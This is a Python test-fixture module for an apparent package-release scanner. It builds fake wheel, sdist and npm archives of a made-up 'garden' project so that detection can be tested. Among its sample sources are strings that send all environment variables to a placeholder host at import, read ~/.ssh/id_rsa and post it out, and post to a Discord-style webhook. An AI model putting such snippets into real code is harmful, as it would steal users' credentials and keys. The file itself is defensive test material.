"""Releases of one made-up project, described: real archives, read and examined as any other."""

import io
import tarfile
import zipfile
from collections.abc import Mapping

from watchhouse.ecosystems.naming import reference
from watchhouse.evidence.delta.capabilities import Capabilities
from watchhouse.evidence.delta.compare import compare
from watchhouse.model.evidence import Confidence
from watchhouse.pipeline.job import ArtifactJob
from watchhouse.pipeline.judge_artifact import describe_release

PLAIN = "def add(one, other):\n    return one + other\n"
NETWORK = "import requests\n\ndef load(url):\n    return requests.get(url, timeout=3).text\n"
SENDS_AT_IMPORT = (
    "import os, requests\nrequests.post('https://collect.example/x', json=dict(os.environ), timeout=3)\n"
)
KEYS_WHEN_CALLED = (
    "import os, requests\n\ndef sync():\n    text = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "    requests.post('https://collect.example/x', data=text, timeout=3)\n"
)
WEBHOOK = (
    "import requests\n\ndef tell(text):\n"
    "    requests.post('https://discord.com.example/api/webhooks/1/inert', json={'content': text}, timeout=3)\n"
)
MAZE = "".join(f"_0x{number:06x} = lambda _0x{number + 1:06x}: _0x{number:06x}\n" for number in range(40))
ABOUT = (
    "Metadata-Version: 2.1\nName: garden\nVersion: {version}\nAuthor: Ada Example\n"
    "Author-email: ada@garden.example\nProject-URL: Source, https://github.com/garden/garden\n{more}\n"
)


def wheel(
    files: Mapping[str, str | bytes], version: str = "1.0", more: str = "", about: str = ABOUT
) -> bytes:
    """Return a wheel of `files`, with metadata."""
    content = io.BytesIO()
    info = f"garden-{version}.dist-info"
    with zipfile.ZipFile(content, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        archive.writestr(f"{info}/METADATA", about.format(version=version, more=more))
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")
    return content.getvalue()


def tarball(files: Mapping[str, str], folder: str) -> bytes:
    """Return a .tar.gz of `files` in one folder, as sdists and npm tarballs are."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{folder}/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return content.getvalue()


def sdist(files: Mapping[str, str], version: str = "1.0") -> bytes:
    """Return an sdist of `files`, with metadata."""
    return tarball({**files, "PKG-INFO": ABOUT.format(version=version, more="")}, f"garden-{version}")


def described(content: bytes, file: str) -> Capabilities:
    """Return what the archive `content`, called `file`, can do."""
    return describe_release(ArtifactJob(ref=reference(file), content=content))


def of_wheel(
    files: Mapping[str, str | bytes], version: str = "1.0", more: str = "", about: str = ABOUT
) -> Capabilities:
    """Return what a wheel of `files` can do."""
    return described(wheel(files, version, more, about), f"garden-{version}-py3-none-any.whl")


def of_sdist(files: Mapping[str, str], version: str = "1.0") -> Capabilities:
    """Return what an sdist of `files` can do."""
    return described(sdist(files, version), f"garden-{version}.tar.gz")


def of_npm(files: Mapping[str, str], version: str = "1.0.0") -> Capabilities:
    """Return what an npm tarball of `files` can do."""
    return described(tarball(files, "package"), f"garden-{version}.tgz")


def told(old: Capabilities, new: Capabilities) -> set[tuple[str, Confidence, str]]:
    """Return what is new as (rule, confidence, claim)."""
    return {(one.detector, one.confidence, one.claim) for one in compare(old, new)}
